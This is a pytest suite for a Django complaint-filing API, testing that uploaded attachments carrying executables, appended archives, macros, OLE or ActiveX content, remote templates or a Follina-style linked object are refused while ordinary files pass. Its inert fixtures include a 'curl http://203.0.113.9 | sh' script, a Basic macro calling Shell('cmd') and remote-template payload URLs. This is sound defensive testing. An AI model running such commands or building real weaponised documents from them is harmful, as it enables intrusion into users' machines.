"""Hostile attachments are refused, not cleaned (README "Attachments: refused files and
virus scanning"): a PDF or an image that carries a program or an archive (a polyglot), a
Word or OpenDocument text that carries a program, macros, an OLE object or a template
loaded from elsewhere. Each is a 400 problem+json naming the attachment's field, and
nothing is stored. The bytes are built here as the real thing is: headers a linker
writes, a zip appended after %%EOF, a macro project in the package. Ordinary documents
still pass."""

import base64
import io
import random
import struct
import zipfile
from pathlib import Path

import pytest
from django.conf import settings

from cases.attachments import (
    ACTIVE_CONTENT,
    EXECUTABLE,
    HIDDEN_ARCHIVE,
    UNREADABLE,
    refusal,
    sniff_content_type,
)
from cases.models import Attachment, Case
from tests.cases.test_attachment_types import DOCX, ODT, archive, document_xml
from tests.cases.test_filing_api import PDF, complaint_body

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def windows_program() -> bytes:
    """The start of a Windows x86-64 program: MZ header (e_lfanew at 0x3C), the DOS stub,
    the PE signature with its COFF header, a PE32+ optional header, some code."""
    dos = bytearray(0x40)
    dos[0:2] = b"MZ"
    struct.pack_into("<HH", dos, 2, 0x90, 3)
    struct.pack_into("<I", dos, 0x3C, 0x80)
    stub = (
        b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
        b"This program cannot be run in DOS mode.\r\r\n$"
    )
    head = (bytes(dos) + stub).ljust(0x80, b"\0")
    coff = struct.pack("<4sHHIIIHH", b"PE\0\0", 0x8664, 1, 0x6500_0000, 0, 0, 0xF0, 0x22)
    optional = struct.pack("<HBB", 0x20B, 14, 0).ljust(0xF0, b"\0")
    return head + coff + optional + b"\x48\x31\xc0\xc3" * 16


def stubless_windows_program() -> bytes:
    """The same program without the DOS stub's text (packers strip it): found by its
    headers alone, the MZ header pointing at "PE\\0\\0"."""
    return windows_program().replace(b"This program cannot be run in DOS mode.", b"\0" * 39)


def linux_program() -> bytes:
    """An ELF header: 64-bit, little-endian, an executable for x86-64."""
    ident = b"\x7fELF\x02\x01\x01\x00" + b"\0" * 8
    return ident + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 1, 0, 0, 0)


def pdf(*streams: bytes) -> bytes:
    """A PDF with each stream as an object, stored as given (uncompressed)."""
    body = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    for number, data in enumerate(streams, start=1):
        body += f"{number} 0 obj\n<< /Length {len(data)} >>\nstream\n".encode()
        body += data + b"\nendstream\nendobj\n"
    return body + b"trailer\n<< /Size 1 >>\n%%EOF\n"


PNG = b"\x89PNG\r\n\x1a\n" + b"\0\0\0\rIHDR" + b"\0" * 17 + b"\0\0\0\0IEND\xaeB`\x82"
JPEG = b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0" + b"\xff\xd9"


def word(**extra: bytes) -> bytes:
    """A Word document with extra parts."""
    parts = {
        "[Content_Types].xml": b"<Types/>",
        "word/document.xml": document_xml(),
        "word/_rels/document.xml.rels": b'<Relationships><Relationship Id="rId1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
        b'Target="https://www.gemeente.example/besluit" TargetMode="External"/>'
        b"</Relationships>",
    }
    return archive(parts | extra)


def opendocument(**extra: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zipped:
        zipped.writestr("mimetype", ODT.encode(), compress_type=zipfile.ZIP_STORED)
        zipped.writestr("content.xml", document_xml(), compress_type=zipfile.ZIP_DEFLATED)
        for name, data in extra.items():
            zipped.writestr(name, data, compress_type=zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def encrypted_member_word() -> bytes:
    """A Word document with a part flagged as encrypted (nothing in it can be checked)."""
    name = b"word/media/image1.png"
    data = bytearray(
        archive(
            {"[Content_Types].xml": b"<Types/>", "word/document.xml": document_xml()}
            | {name.decode(): b"\x93\x11" * 200}
        )
    )
    # zipfile writes no encryption: set the flag in the part's local and central headers.
    local = data.rindex(b"PK\x03\x04")
    central = data.rindex(b"PK\x01\x02")
    assert data[local + 30 : local + 30 + len(name)] == name
    assert data[central + 46 : central + 46 + len(name)] == name
    data[local + 6] |= 0x1
    data[central + 8] |= 0x1
    return bytes(data)


def workbook(**extra: bytes) -> bytes:
    """An Excel workbook, as Word embeds one behind a chart."""
    return archive({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"} | extra)


REMOTE_TEMPLATE = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns='
    b'"http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    b' Target="http://203.0.113.9/sjabloon.dotm" TargetMode="External"/></Relationships>'
)
LINKED_OBJECT = (
    b"<Relationships><Relationship Id='rId9' TargetMode='External' Target='mhtml:http://"
    b"203.0.113.9/x.html!x-usc:http://203.0.113.9/x.html' Type='http://schemas.openxmlformats"
    b".org/officeDocument/2006/relationships/oleObject'/></Relationships>"
)

HOSTILE = {
    # Polyglots: a PDF (or an image) that is also a program or an archive.
    "PDF carrying a Windows program in a stream": (pdf(b"BT ET", windows_program()), EXECUTABLE),
    "PDF with a Windows program after %%EOF": (pdf(b"BT ET") + windows_program(), EXECUTABLE),
    "PDF carrying a Windows program without its stub text": (
        pdf(stubless_windows_program()),
        EXECUTABLE,
    ),
    "PDF carrying a Linux program": (pdf(linux_program()), EXECUTABLE),
    "PDF with a zip appended": (
        PDF + archive({"factuur.exe": windows_program()}),
        HIDDEN_ARCHIVE,
    ),
    "PDF with a stored zip appended": (
        PDF + archive({"lees mij.txt": b"hallo"}, zipfile.ZIP_STORED),
        HIDDEN_ARCHIVE,
    ),
    "PDF with a RAR archive appended": (PDF + b"Rar!\x1a\x07\x01\x00" + b"\0" * 64, HIDDEN_ARCHIVE),
    "PNG with a zip appended": (PNG + archive({"run.js": b"WScript.Echo(1)"}), HIDDEN_ARCHIVE),
    "JPEG carrying a Windows program": (JPEG + windows_program(), EXECUTABLE),
    # Word and OpenDocument texts that carry programs or active content.
    "Word document with a program by its content": (
        word(**{"word/media/image1.png": windows_program()}),
        EXECUTABLE,
    ),
    "Word document with a Linux program by its content": (
        word(**{"word/media/image2.emf": linux_program()}),
        EXECUTABLE,
    ),
    "Word document with a script": (
        word(**{"word/media/run": b"#!/bin/sh\ncurl http://203.0.113.9 | sh\n"}),
        EXECUTABLE,
    ),
    "Word document with a VBA macro project": (
        word(**{"word/vbaProject.bin": OLE + b"\0" * 504}),
        ACTIVE_CONTENT,
    ),
    "Word document with an OLE object": (
        word(**{"word/embeddings/oleObject1.bin": OLE + b"\1" * 504}),
        ACTIVE_CONTENT,
    ),
    "Word document with an ActiveX control": (
        word(**{"word/activeX/activeX1.xml": b"<ax:ocx/>"}),
        ACTIVE_CONTENT,
    ),
    "Word document loading a template from elsewhere": (
        word(**{"word/_rels/settings.xml.rels": REMOTE_TEMPLATE}),
        ACTIVE_CONTENT,
    ),
    "Word document with a linked object (Follina)": (
        word(**{"word/_rels/document.xml.rels": LINKED_OBJECT}),
        ACTIVE_CONTENT,
    ),
    "Word document embedding a workbook with macros": (
        word(
            **{
                "word/embeddings/Microsoft_Excel_Worksheet.xlsm": workbook(
                    **{"xl/vbaProject.bin": OLE + b"\0" * 504}
                )
            }
        ),
        ACTIVE_CONTENT,
    ),
    "Word document embedding a plain zip": (
        word(**{"word/embeddings/package.zip": archive({"readme.txt": b"x"})}),
        HIDDEN_ARCHIVE,
    ),
    "Word document embedding a zip bomb": (
        word(
            **{
                "word/embeddings/Microsoft_Excel_Worksheet.xlsx": workbook(
                    **{"xl/sharedStrings.xml": b"\0" * (20 * 1024 * 1024)}
                )
            }
        ),
        UNREADABLE,
    ),
    "Word document with an encrypted part": (encrypted_member_word(), UNREADABLE),
    "OpenDocument text with a Basic macro": (
        opendocument(
            **{
                "Basic/script-lc.xml": b"<library:libraries/>",
                "Basic/Standard/Module1.xml": b'<script:module>Sub Main\nShell("cmd")\nEnd Sub',
            }
        ),
        ACTIVE_CONTENT,
    ),
    "OpenDocument text with an OLE object": (
        opendocument(**{"Object 1": OLE + b"\0" * 504}),
        ACTIVE_CONTENT,
    ),
    "OpenDocument text with a program": (
        opendocument(**{"Pictures/1000.png": windows_program()}),
        EXECUTABLE,
    ),
}

PROGRAM_NAMES = [
    "setup.exe",
    "helper.dll",
    "screensaver.scr",
    "start.bat",
    "start.cmd",
    "invoice.js",
    "macro.vbs",
    "install.ps1",
    "tool.jar",
    "package.msi",
]


@pytest.fixture
def stored_files():
    """The attachment files on disk now; a refused filing adds none."""
    root = Path(settings.MEDIA_ROOT) / "attachments"

    def files() -> set[Path]:
        return {path for path in root.rglob("*") if path.is_file()} if root.exists() else set()

    before = files()
    return lambda: files() - before


def file_with(anon, *contents: bytes, filename: str = "brief.pdf"):
    body = complaint_body(
        attachments=[
            {"filename": filename, "content": base64.b64encode(content).decode()}
            for content in contents
        ]
    )
    return anon.post("/api/v1/complaints", body, format="json")


def assert_refused(response, code: str, *, field: str = "attachments.0.content") -> None:
    assert response.status_code == 400, response.content
    assert response["Content-Type"] == "application/problem+json"
    (param,) = response.json()["invalidParams"]
    assert param["name"] == field
    assert param["code"] == code
    assert not Case.objects.exists()
    assert not Attachment.objects.exists()


@pytest.mark.parametrize(("content", "code"), HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_content_is_found(content, code):
    content_type = sniff_content_type(content)
    assert content_type in settings.ATTACHMENT_ALLOWED_TYPES  # the type alone lets it in
    assert refusal(content, content_type) == code


@pytest.mark.django_db
@pytest.mark.parametrize(("content", "code"), HOSTILE.values(), ids=HOSTILE.keys())
def test_a_filing_with_hostile_content_is_refused_and_stores_nothing(
    anon, stored_files, content, code
):
    assert_refused(file_with(anon, content), code)
    assert not stored_files()


@pytest.mark.django_db
@pytest.mark.parametrize("name", PROGRAM_NAMES)
def test_a_document_with_a_part_named_as_a_program_is_refused(anon, stored_files, name):
    docx = word(**{f"word/media/{name}": b"harmless bytes, but a name Windows would run"})
    assert_refused(file_with(anon, docx, filename="bezwaar.docx"), EXECUTABLE)
    assert not stored_files()


@pytest.mark.django_db
def test_the_refused_attachment_is_named_among_several(anon, stored_files):
    """The second of two: its field is named, and the first is not stored either."""
    response = file_with(anon, PDF, pdf(windows_program()))
    assert_refused(response, EXECUTABLE, field="attachments.1.content")
    assert "programma" in response.json()["invalidParams"][0]["reason"]  # Dutch, plain
    assert not stored_files()


def random_bytes(size: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(size)


ORDINARY = {
    "PDF with compressed-looking streams": pdf(random_bytes(1024 * 1024, 1), b"BT ET"),
    "PDF with JavaScript-free text about programs": pdf(
        b"(Het programma MZ-PE-ELF werkt niet in DOS mode) Tj"
    ),
    "JPEG photo": JPEG[:-2] + random_bytes(512 * 1024, 2) + b"\xff\xd9",
    "PNG": PNG,
    "text mentioning executables": (
        b"Ik stuurde setup.exe niet mee; de ambtenaar zei 'This program cannot be run in DOS "
        b"mode'. Kenmerk MZ-2026 en ELF-12."
    ),
    "Word document with a hyperlink and a chart's workbook": word(
        **{
            "word/charts/chart1.xml": b"<c:chartSpace/>",
            "word/embeddings/Microsoft_Excel_Worksheet.xlsx": workbook(),
            "word/media/image1.jpeg": JPEG,
            "word/printerSettings/printerSettings1.bin": "HP LaserJet".encode("utf-16-le"),
        }
    ),
    "OpenDocument text with an empty Basic library index": opendocument(
        **{"Basic/script-lc.xml": b"<library:libraries/>", "Pictures/1.png": PNG}
    ),
}


@pytest.mark.parametrize("content", ORDINARY.values(), ids=ORDINARY.keys())
def test_ordinary_documents_pass(content):
    assert refusal(content, sniff_content_type(content)) is None


@pytest.mark.parametrize("seed", range(8))
def test_random_data_is_not_mistaken_for_a_program(seed):
    """Compressed streams and photos look random: 4 MiB of it holds some 60 "MZ" pairs
    and a few archive signatures by chance, none a program's or an archive's structure."""
    data = random_bytes(4 * 1024 * 1024, 100 + seed)
    assert refusal(b"%PDF-1.5\n" + data, "application/pdf") is None


@pytest.mark.django_db
def test_an_ordinary_document_is_filed(anon):
    docx = ORDINARY["Word document with a hyperlink and a chart's workbook"]
    response = file_with(anon, docx, filename="bezwaar.docx")
    assert response.status_code == 201, response.content
    assert Attachment.objects.get().content_type == DOCX
